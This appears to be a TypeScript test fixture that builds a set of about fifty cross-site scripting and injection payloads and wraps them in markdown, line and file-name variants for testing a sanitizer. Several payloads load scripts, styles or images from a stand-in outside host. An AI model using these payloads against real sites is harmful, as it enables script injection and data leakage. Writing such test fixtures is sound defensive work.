/** Calls that would show that a script ran, or that the page asked somebody else. */
const RUN = 'window.__ran=(window.__ran||0)+1';
const AWAY = 'http://outside.invalid';

/** What has been used against pages: markup, attributes, addresses, styles, SVG, templates, broken markup. */
const payloads: readonly string[] = [
	`<script>${RUN}</script>`,
	`<ScRiPt src="${AWAY}/a.js"></sCrIpT>`,
	`<img src=x onerror=${RUN}>`,
	`<img src="${AWAY}/pixel.png">`,
	`<svg onload=${RUN}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+PC9zdmc+#x"></svg>`,
	`<svg><image href="${AWAY}/i.png"/></svg>`,
	`<svg><style>@import "${AWAY}/s.css";</style></svg>`,
	`<math><mi xlink:href="javascript:${RUN}">m</mi></math>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<object data="${AWAY}/o.swf"></object>`,
	`<embed src="${AWAY}/e.swf">`,
	`<link rel=stylesheet href="${AWAY}/l.css">`,
	`<meta http-equiv=refresh content="0;url=${AWAY}/m">`,
	`<base href="${AWAY}/">`,
	`<form action="${AWAY}/f"><button autofocus onfocus=${RUN}>b</button></form>`,
	`<input autofocus onfocus=${RUN}>`,
	`<select autofocus onfocus=${RUN}>`,
	`<textarea autofocus onfocus=${RUN}>`,
	`<video><source onerror=${RUN}></video>`,
	`<audio src=x onerror=${RUN}>`,
	`<details open ontoggle=${RUN}>d</details>`,
	`<marquee onstart=${RUN}>m</marquee>`,
	`<body onpageshow=${RUN}>`,
	`<div style="background:url(${AWAY}/bg.png)">s</div>`,
	`<style>*{background:url(${AWAY}/all.png)}</style>`,
	`<a href="javascript:${RUN}">a</a>`,
	`<a href="jav&#x09;ascript:${RUN}">a</a>`,
	`<a href="data:text/html,<script>${RUN}</script>">a</a>`,
	`<a href="vbscript:msgbox(1)">a</a>`,
	`<template><script>${RUN}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<!--><script>${RUN}</script>-->`,
	`<![CDATA[<script>${RUN}</script>]]>`,
	`</title><script>${RUN}</script>`,
	`</textarea><script>${RUN}</script>`,
	`{@html "<img src=x onerror=${RUN}>"}`,
	`{{constructor.constructor('${RUN}')()}}`,
	`\${${RUN}}`,
	`javascript:${RUN}`,
	`"><img src=x onerror=${RUN}>`,
	`'-${RUN}-'`,
	`\u202e<script>${RUN}</script>`,
	`<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
	`=HYPERLINK("${AWAY}/h","x")`,
	`<p id=__proto__ name=cookie>clobber</p>`,
];

/** As it is, and as markdown would carry it: a link, a picture, a quote beside raw markup. */
const dresses: readonly ((payload: string) => string)[] = [
	(payload) => payload,
	(payload) => `[link ${payload}](javascript:${RUN} "${payload}")`,
	(payload) => `![picture](${AWAY}/p.png "${payload}") ${payload}`,
	(payload) => `> quote\n\n${payload}\n\n\`\`\`html\n${payload}\n\`\`\``,
];

/** 200 strings that want to become more than text. */
export const hostileStrings: readonly string[] = dresses.flatMap((dress) => payloads.map(dress));

/** The same on one line, as cells, ids and names are. */
export const hostileLines: readonly string[] = hostileStrings.map((text) => text.replace(/\s*\n\s*/gu, ' '));

/** Names of files: no slash, no NUL, at most 200 bytes. */
export const hostileNames: readonly string[] = payloads.map((text) =>
	Buffer.from(text.replace(/[/\0]/gu, '_'))
		.subarray(0, 200)
		.toString('utf8')
		.replace(/\ufffd/gu, ''),
);
